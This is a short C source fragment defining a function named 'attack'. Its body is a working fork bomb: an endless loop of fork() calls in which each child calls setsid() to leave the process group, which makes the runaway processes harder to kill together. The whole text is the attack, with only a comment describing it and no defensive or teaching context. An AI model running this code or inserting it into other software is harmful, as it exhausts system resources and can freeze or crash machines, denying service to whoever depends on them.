#include <unistd.h>
/* forks without end; every child forks too and leaves the process group */
static int attack(int argc, char **argv) {
    (void)argc, (void)argv;
    for (;;) {
        if (fork() == 0)
            setsid();
    }
    return 1;
}
